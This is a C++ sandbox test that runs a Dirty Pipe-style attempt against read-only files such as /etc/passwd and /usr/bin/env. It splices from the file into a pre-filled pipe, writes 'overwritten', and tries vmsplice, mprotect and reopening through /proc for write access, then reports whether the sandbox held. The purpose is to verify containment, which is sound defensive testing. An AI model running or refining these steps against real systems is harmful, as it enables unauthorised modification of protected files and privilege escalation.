// tries: to change a file that it may only read, by pages passed through pipes, as Dirty Pipe did
// status: ok
#include <cstdio>
#include <cstring>
#include <string>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/uio.h>
#include <unistd.h>

int main() {
    int broke = 0;
    for (const char *path : {"/usr/bin/env", "/etc/passwd", "/box/main.cpp", "/etc/hostname"}) {
        // The last is an engine's, where there is one.
        if (access(path, F_OK) != 0 && std::string(path) == "/etc/hostname") continue;
        char before[64] = {}, after[64] = {};
        int file = open(path, O_RDONLY), ends[2];
        if (file < 0 || pipe(ends) || pread(file, before, 64, 0) <= 0) {
            broke += std::printf("%s cannot be read\n", path);
            continue;
        }
        for (int i = 0; i < 16; i++) write(ends[1], before, 64);
        char rest[1024];
        read(ends[0], rest, sizeof rest);
        loff_t at = 0;
        if (splice(file, &at, ends[1], nullptr, 1, 0) >= 0) broke += std::printf("splice from %s\n", path);
        if (tee(ends[0], ends[1], 1, SPLICE_F_NONBLOCK) >= 0) broke += std::printf("tee\n");
        void *page = mmap(nullptr, 4096, PROT_READ, MAP_SHARED, file, 0);
        iovec piece{page, 1};
        if (vmsplice(ends[1], &piece, 1, SPLICE_F_GIFT) >= 0) broke += std::printf("vmsplice of %s\n", path);
        if (mprotect(page, 4096, PROT_READ | PROT_WRITE) == 0) broke += std::printf("a writable page of %s\n", path);
        if (write(ends[1], "overwritten", 11) < 0) broke += std::printf("no write\n");
        if (open(path, O_RDWR) >= 0 || open(("/proc/self/fd/" + std::to_string(file)).c_str(), O_WRONLY) >= 0)
            broke += std::printf("%s can be written to\n", path);
        pread(file, after, 64, 0);
        if (std::memcmp(before, after, 64)) broke += std::printf("%s was changed\n", path);
    }
    if (!broke) std::puts("held");
}
